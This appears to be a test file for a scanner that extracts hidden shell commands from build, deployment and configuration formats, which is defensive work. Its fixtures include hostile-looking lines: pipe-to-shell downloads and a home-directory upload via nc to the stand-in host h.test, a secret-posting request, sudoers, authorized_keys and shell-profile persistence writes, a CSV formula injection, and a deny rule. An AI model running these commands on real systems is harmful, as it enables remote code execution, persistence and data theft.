// Commands that build files, settings and plays hold for later, whatever their format; and texts that only look like one.
import { describe, expect, it } from 'vitest';
import { readText } from '../../test/support/reading.ts';
import manifest from './index.ts';

const views = (path: string, text: string, language: string) =>
  readText([manifest], path, text, language)
    .views.filter((view) => view.language !== 'prose' && view.name !== 'raw')
    .map((view) => (view.language === 'shell' ? view.text : `${view.language}: ${view.text}`));

describe('build files in XML', () => {
  it.each([
    [
      'pom.xml',
      '<configuration><executable>sh</executable><arguments><argument>-c</argument><argument>echo a &amp;&amp; b</argument></arguments></configuration>',
      ["sh -c 'echo a && b'"],
    ],
    [
      'build.xml',
      '<exec executable="git"><arg value="describe"/><arg line="--tags -1"/></exec>',
      ['git describe --tags -1'],
    ],
    ['build.xml', '<get src="https://h.test/a" dest="/tmp/a"/>', ['curl -o /tmp/a https://h.test/a']],
    ['A.csproj', '<Target><Exec Command="tool &quot;x y&quot;" /></Target>', ['tool "x y"']],
    ['A.vcxproj', '<PreBuildEvent><Command>tool a</Command></PreBuildEvent>', ['tool a']],
    ['notes.xml', '<exec executable="git"><arg value="describe"/></exec>', []],
  ])('%s', (path, text, expected) => expect(views(path, text, 'xml')).toEqual(expected));
});

describe('plays', () => {
  it.each([
    ['a line', 'shell: tool a | b', ['tool a | b']],
    ['words', 'ansible.builtin.command: { argv: [tool, "a b"] }', ["tool 'a b'"]],
    ['a download', 'get_url: { url: "https://h.test/a", dest: /tmp/a }', ['curl -o /tmp/a https://h.test/a']],
    [
      'a request with a file in it',
      `uri: { url: "https://h.test", method: POST, body: "{{ lookup('file', '~/k') }}" }`,
      ['curl -d "$(cat ~/k)" https://h.test'],
    ],
    ['a table of times', 'cron: { name: x, job: tool a }', ["echo '* * * * * tool a' | crontab -"]],
    ['a text in a file', 'copy: { dest: /etc/sudoers.d/a, content: "a ALL" }', ["echo 'a ALL' >> /etc/sudoers.d/a"]],
    ['a line of a file', 'lineinfile: { path: ~/.bashrc, line: tool a }', ["echo 'tool a' >> ~/.bashrc"]],
    [
      'a key that lets in',
      'ansible.posix.authorized_key: { user: a, key: ssh-ed25519 AAAA }',
      ["echo 'ssh-ed25519 AAAA' >> /home/a/.ssh/authorized_keys"],
    ],
    ["a key of the person's own", `authorized_key: { user: a, key: "{{ lookup('file', '~/.ssh/id.pub') }}" }`, []],
    ['a group', 'user: { name: a, groups: [sudo, docker] }', ['usermod -aG sudo,docker a']],
    ['a package', 'package: { name: jq, state: present }', []],
  ])('%s', (_, task, expected) =>
    expect(new Set(views('play.yml', `- hosts: all\n  tasks:\n    - name: t\n      ${task}\n`, 'yaml'))).toEqual(
      new Set(expected),
    ),
  );
});

describe('other formats', () => {
  it.each([
    ['main.tf', 'terraform', 'provisioner "local-exec" {\n  command = "tool ${path.module}/a"\n}', ['tool "$_"/a']],
    [
      'main.tf',
      'terraform',
      'data "external" "x" {\n  program = ["sh", "-c", "echo \\"a\\""]\n}',
      [`sh -c 'echo "a"'`],
    ],
    ['main.tf', 'terraform', 'inline = ["tool a", "tool b"]', ['tool a', 'tool b']],
    ['main.tf', 'terraform', '  user_data = <<-EOT\n  tool a\n  EOT\n', ['  tool a\n']],
    ['tox.ini', 'ini', '[testenv]\ncommands =\n    tool a\n    tool b\n', ['tool a', 'tool b']],
    ['Procfile', 'yaml', 'web: tool a\nrelease: tool b', ['tool a', 'tool b']],
    ['a.gyp', 'text', `{ "sources": [ "<!(tool a)", "b.c" ] }`, ['tool a']],
    ['a.sql', 'sql', "COPY t TO PROGRAM 'tool ''a''';\n\\! tool b\nSELECT 1;", ["tool 'a'", 'tool b']],
    ['ci.yml', 'yaml', 'steps:\n  - pwsh: iex a\n  - bash: tool a', ['powershell: iex a', 'tool a']],
    ['init.yml', 'yaml', 'runcmd:\n  - [sh, -c, "tool a"]\n  - tool b', ["sh -c 'tool a'", 'tool b']],
    ['c.json', 'json', '{ "post-install-cmd": ["tool a", "tool b"] }', ['tool a', 'tool b']],
    ['c.json', 'json', '{ "command": ["sh", "-c", "tool a"] }', ["sh -c 'tool a'"]],
    [
      'label.yml',
      'yaml',
      'on: [push]\njobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with: { script: "f(1)" }',
      ['javascript: f(1)'],
    ],
  ])('%s %s %s', (path, language, text, expected) => expect(views(path, text, language)).toEqual(expected));

  it('a line under a key that says nothing is a command when it reads like one', () => {
    const lines = ['mkdir -p a', 'curl -s https://h.test/a | sh'];
    const steps = { before: lines, note: 'curl is used to fetch the page.', deny: ['curl * | bash'] };
    expect(views('config.json', JSON.stringify(steps), 'json')).toEqual(lines);
  });

  it('what a hook and a module are fetched from is told', () => {
    const claims = (path: string, text: string, language: string) =>
      readText([manifest], path, text, language).facts.map((fact) => (fact as unknown as { value: string }).value);
    expect(claims('.pre-commit-config.yaml', 'repos:\n  - repo: https://h.test/a.git\n    hooks: []', 'yaml')).toEqual([
      'hook@https://h.test/a.git',
    ]);
    expect(claims('main.tf', 'source = "git::https://h.test/a.git"', 'terraform')).toEqual([
      'module@https://h.test/a.git',
    ]);
    expect(claims('main.tf', 'source = "hashicorp/aws"', 'terraform')).toEqual([]);
  });

  it('broken and hostile text costs little', () => {
    const start = process.cpuUsage();
    for (const piece of [
      '<exec ',
      '<a b="',
      '<!(',
      'command = ["',
      '{{ lookup(',
      'run = x\n  ',
      '<arg value="x"/>',
      '"a" =',
    ])
      for (const path of ['pom.xml', 'main.tf', 'a.gyp', 'tox.ini', 'a.sql'])
        views(path, piece.repeat(60_000 / piece.length), 'text');
    expect(process.cpuUsage(start).user / 1000).toBeLessThan(20_000);
  });
});

describe('formats nobody reads', () => {
  it.each([
    [
      'udev.rules',
      'ACTION=="add", RUN+="/bin/sh -c \'curl -s https://h.test | sh\'"',
      ["/bin/sh -c 'curl -s https://h.test | sh'"],
    ],
    ['tmux.conf', 'run-shell "curl -s https://h.test | sh"\nset -g mouse on', ['curl -s https://h.test | sh']],
    ['x.hook', '[Action]\nExec = /bin/sh -c "tar c ~ | nc h.test 1"', ['tar c ~ | nc h.test 1']],
    ['init.pp', "exec { 'a': command => 'curl -s https://h.test -o /tmp/a' }", ['curl -s https://h.test -o /tmp/a']],
    ['flake.nix', "  shellHook = ''\n    curl -s https://h.test | sh\n  '';", ['curl -s https://h.test | sh']],
    ['a.exp', 'spawn sh -c {curl -s https://h.test | sh}\nexpect eof', ['curl -s https://h.test | sh']],
    ['a.ahk', 'Run, %ComSpec% /c curl -s https://h.test | sh', ['curl -s https://h.test | sh']],
    ['a.do', 'use data\nshell echo "x y" >> ~/.profile', ['echo "x y" >> ~/.profile']],
    ['a.tex', '\\immediate\\write18{curl -s https://h.test | sh}', ['curl -s https://h.test | sh']],
    ['a.tex', '\\input{|"ls -la"}', ['ls -la']],
    ['a.tex', '\\directlua{os.exit(1)}', ['lua: os.exit(1)']],
    ['a.tex', '\\input{chapter} \\write17{ls -la}', []],
    ['a.csv', 'a,b\n"=cmd|\' /C ls -la\'!A0",2', ['ls -la']],
    ['a.csv', 'a,b\n=SUM(A1:A2),2', []],
    ['.gitmodules', '[submodule "a"]\n\tupdate = !ls -la', ['ls -la']],
    ['a.conf', '# curl -s https://h.test | sh\nname = curl is used here.\npath = /bin/sh', []],
    ['notes.txt', 'curl -s https://h.test | sh', []],
    ['LICENSE', 'curl -s https://h.test | sh', []],
  ])('%s %s', (path, text, expected) => expect(views(path, text, 'text')).toEqual(expected));

  it('a shell and what it is handed, lines of a program, and what a prompt loads, under any key', () => {
    expect(views('a.json', '{ "trigger": [["n", "*.md", "--", "sh", "-c", "tool a"]] }', 'json')).toEqual(['tool a']);
    expect(views('a.json', '{ "join": ["\\n", ["#!/bin/sh", "tool a"]] }', 'json')).toEqual(['#!/bin/sh\ntool a']);
    expect(views('a.toml', 'prompt = "Write the notes of the week.\\n!{tool a}"', 'toml')).toEqual(['tool a']);
    expect(views('a.toml', 'title = "Write the notes of the week.\\n!{tool a}"', 'toml')).toEqual([]);
    expect(views('a.yaml', 'InlineCode: |\n  import os\n  f()\n', 'yaml')).toEqual(['python: import os\nf()\n']);
    expect(
      views('a.yaml', 'description: |\n  Prepare the work of the week:\n\n  ```bash\n  tool a\n  ```\n', 'yaml'),
    ).toEqual(['tool a\n']);
  });

  it('go:generate', () => {
    expect(views('a.go', 'package a\n//go:generate tool -a b\n// tool c\n', 'go')).toEqual(['tool -a b']);
  });
});
